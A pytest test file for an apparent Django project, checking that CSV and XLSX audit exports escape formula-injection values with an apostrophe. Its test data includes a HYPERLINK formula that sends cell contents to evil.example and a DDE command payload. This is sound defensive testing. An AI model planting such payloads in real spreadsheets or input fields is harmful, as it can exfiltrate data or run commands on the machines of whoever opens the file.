"""Item 11 of issue 12: text that an attacker chose (a failed sign-in's username) reaches every
CSV and XLSX the project writes as text, never as a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from ctms.audit import audit
from ctms.cells import safe_cell
from exports import writers

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Sokha", "Sokha"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell_neutralises_formula_prefixes_only(value, written):
    assert safe_cell(value) == written


def test_audit_export_csv_writes_a_failed_username_as_text(db):
    # given a failed sign-in whose username is a formula
    audit(actor=None, action="login_failed", actor_username=ATTACK, details={"username": ATTACK})
    out = io.StringIO()
    # when the audit trail is exported as CSV
    call_command("audit_export", "--format", "csv", stdout=out)
    # then the cell starts with an apostrophe: text, not a formula
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["actor_username"] for row in rows] == ["'" + ATTACK]


def test_csv_writers_neutralise_every_cell():
    stream = io.StringIO()
    writers.write_csv(stream, ["name", "n"], [[(ATTACK, 3)]])
    streamed = "".join(writers.csv_text_chunks(["name", "n"], [[(ATTACK, 3)]]))
    expected = [["name", "n"], ["'" + ATTACK, "3"]]
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == expected
    assert list(csv.reader(io.StringIO(streamed))) == expected


def test_xlsx_writer_neutralises_text_cells(tmp_path):
    path = tmp_path / "out.xlsx"
    writers.write_xlsx(path, ["name", "n"], [[(ATTACK, 3)]])
    sheet = load_workbook(path).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["name", "n"],
        ["'" + ATTACK, 3],
    ]
